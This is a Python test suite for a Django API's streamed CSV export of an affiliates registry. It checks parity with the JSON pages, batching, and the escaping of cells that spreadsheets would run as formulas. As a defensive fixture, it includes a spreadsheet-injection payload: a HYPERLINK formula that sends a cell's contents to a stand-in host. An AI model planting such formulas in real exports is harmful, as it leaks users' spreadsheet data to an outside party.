"""?format=csv: the whole filtered list, streamed, equal to the JSON pages."""

import csv
import io

import pytest
from django.db import connection
from django.http import StreamingHttpResponse

from api.serializers import CSV_COLUMNS
from registry import csv_export, feed
from registry.csv_export import csv_lines, spreadsheet_safe
from registry.selectors import today
from tests.api.conftest import bulk_affiliates
from tests.factories import MembershipFactory
from tests.fetches import fetches, rows_read_in_batches_of

pytestmark = pytest.mark.django_db

URL = "/api/v1/affiliates/"


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def json_rows(client, params) -> list[dict]:
    rows = []
    body = client.get(URL, {**params, "page_size": 7}).json()
    while True:
        for item in body["results"]:
            flat = {**item, "in_good_standing": "true" if item["in_good_standing"] else "false"}
            for nested in ("country", "region"):
                for key, value in flat.pop(nested).items():
                    flat[f"{nested}_{key}"] = value
            rows.append(flat)
        if not body["next"]:
            return rows
        body = client.get(body["next"]).json()


@pytest.fixture
def tricky(regions):
    """Names that need quoting in CSV, non-Latin letters, and plenty of rows for several pages."""
    bulk_affiliates(40, region=regions["africa-east"], name=lambda i: f"Union {i:02d}, Nairobi")
    bulk_affiliates(5, region=regions["africa-west"], country="GH", name=lambda i: f'Union "{i}" of Ghana')
    for name in ["Université de Lomé", "Студенческий союз", "Line\nbreak Union", "=Formula Union"]:
        MembershipFactory(
            organization__name=name, organization__region=regions["africa-west"], organization__country="TG"
        )
    bulk_affiliates(6, region=regions["europe-north"], country="SE")


@pytest.mark.parametrize(
    "params",
    [
        {},
        {"region": "africa"},
        {"region": "africa", "ordering": "-name"},
        {"country": "GH", "ordering": "admitted_on"},
        {"q": "union", "ordering": "-admitted_on"},
        {"ordering": "updated_at"},
        {"country": "FR"},
    ],
)
def test_csv_of_a_filter_equals_its_json(api_client, tricky, params):
    # The same values, but a cell a spreadsheet would run as a formula ("=Formula Union") escaped.
    expected = [
        {key: spreadsheet_safe(value) for key, value in row.items()} for row in json_rows(api_client, params)
    ]

    rows = csv_rows(api_client.get(URL, {**params, "format": "csv"}))

    assert rows == expected
    assert rows or params == {"country": "FR"}


def test_csv_has_a_header_row_even_when_empty(api_client, regions):
    response = api_client.get(URL, {"format": "csv"})
    text = b"".join(response.streaming_content).decode()

    assert text == ",".join(CSV_COLUMNS) + "\r\n"


def test_csv_is_all_rows_not_one_page(api_client, regions):
    bulk_affiliates(120, region=regions["africa-east"])

    assert len(csv_rows(api_client.get(URL, {"format": "csv", "page_size": 10}))) == 120


def test_accept_text_csv_gives_csv(api_client, tricky):
    response = api_client.get(URL, {"region": "europe"}, HTTP_ACCEPT="text/csv")

    assert len(csv_rows(response)) == 6
    assert "attachment" in response["Content-Disposition"]


def test_partners_get_the_email_column(partner_client, api_client, tricky):
    partner = csv_rows(partner_client.get(URL, {"format": "csv", "region": "europe"}))
    anonymous = csv_rows(api_client.get(URL, {"format": "csv", "region": "europe"}))

    assert partner == json_rows(partner_client, {"region": "europe"})
    assert all(row["email"] for row in partner)
    assert "email" not in anonymous[0]


FORMULA_NAMES = [
    '=HYPERLINK("https://evil.example/?x="&A1, "Click")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
]


@pytest.fixture
def formula_names(regions):
    for index, name in enumerate(FORMULA_NAMES):
        MembershipFactory(
            organization__name=name,
            organization__slug=f"formula-{index}",
            organization__city="=1+1",
            organization__region=regions["europe-north"],
            organization__country="SE",
        )


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_start_with_a_quote(api_client, formula_names):
    rows = csv_rows(api_client.get(URL, {"format": "csv", "ordering": "name"}))

    by_slug = {row["slug"]: row for row in rows}
    assert {slug: row["name"] for slug, row in by_slug.items()} == {
        f"formula-{index}": "'" + name for index, name in enumerate(FORMULA_NAMES)
    }
    assert {row["city"] for row in rows} == {"'=1+1"}
    assert {row["country_code"] for row in rows} == {"SE"}  # other cells as they were


def test_json_of_the_same_rows_is_unchanged(api_client, formula_names):
    results = api_client.get(URL, {"page_size": 50}).json()["results"]

    assert {item["slug"]: item["name"] for item in results} == {
        f"formula-{index}": name for index, name in enumerate(FORMULA_NAMES)
    }
    assert {item["city"] for item in results} == {"=1+1"}


def test_only_a_leading_formula_character_is_escaped_and_numbers_stay_numbers():
    text = "".join(
        csv_lines(
            ["a", "b", "c", "d", "e"],
            [["Union = students", "x-y", "", -2, None], ["|pipe", "%pct", " =spaced", 1.5, "\nnewline"]],
        )
    )

    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["a", "b", "c", "d", "e"],
        ["Union = students", "x-y", "", "-2", ""],
        ["|pipe", "%pct", " =spaced", "1.5", "\nnewline"],
    ]


# --- streamed: a few rows at a time from the database and to the client, whatever the number of rows -----


def export(client, params, monkeypatch, *, fetch: int, chunk: int) -> list[bytes]:
    """The CSV's chunks, read ``fetch`` rows at a time from the database and written ``chunk`` rows a chunk."""
    monkeypatch.setattr(csv_export, "FETCH_ROWS", fetch)
    monkeypatch.setattr(csv_export, "CHUNK_ROWS", chunk)
    response = client.get(URL, {**params, "format": "csv"})
    assert response.status_code == 200
    return list(response.streaming_content)


def records(chunk: bytes) -> int:
    return len(list(csv.reader(io.StringIO(chunk.decode(), newline=""))))


def in_batches(rows: int, size: int) -> list[int]:
    return [size] * (rows // size) + ([rows % size] if rows % size else [])


@pytest.mark.parametrize(
    "params",
    [{}, {"region": "africa", "ordering": "-admitted_on"}, {"q": "union", "ordering": "updated_at"}],
)
@pytest.mark.parametrize("as_of", [False, True], ids=["today", "as-of"])
def test_the_csv_is_read_and_written_in_batches_and_is_the_same_bytes(
    api_client, tricky, monkeypatch, params, as_of
):
    if as_of:
        feed.publish_all()
        params = {**params, "as_of": today().isoformat()}
    whole = export(api_client, params, monkeypatch, fetch=10_000, chunk=10_000)
    with fetches() as calls:
        batched = export(api_client, params, monkeypatch, fetch=4, chunk=3)

    rows = records(b"".join(whole)) - 1
    assert rows > 12
    assert b"".join(batched) == b"".join(whole)
    assert [records(chunk) for chunk in whole] == [1, rows]
    # The header, then 3 rows a chunk.
    assert [records(chunk) for chunk in batched] == [1, *in_batches(rows, 3)]
    read = rows_read_in_batches_of(calls, 4)
    assert [count for count in read if count] == in_batches(rows, 4)
    if connection.vendor == "postgresql":  # from a server-side cursor: never the whole result at once
        assert all(call.cursor_name for call in calls if call.size == 4)


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_outside_a_transaction_postgresql_reads_the_csv_from_a_server_side_cursor_in_batches(
    api_client, regions, monkeypatch
):
    # As in production (autocommit): the cursor is declared WITH HOLD and read in batches.
    bulk_affiliates(30, region=regions["africa-east"], name=lambda i: f"=Union {i:02d}")
    whole = export(api_client, {}, monkeypatch, fetch=10_000, chunk=10_000)
    with fetches() as calls:
        batched = export(api_client, {}, monkeypatch, fetch=7, chunk=5)

    assert b"".join(batched) == b"".join(whole)
    assert records(b"".join(batched)) == 31
    assert b",'=Union 00," in b"".join(batched)
    read = [call for call in calls if call.size == 7]
    assert [call.rows for call in read if call.rows] == in_batches(30, 7)
    assert all(call.cursor_name for call in read)
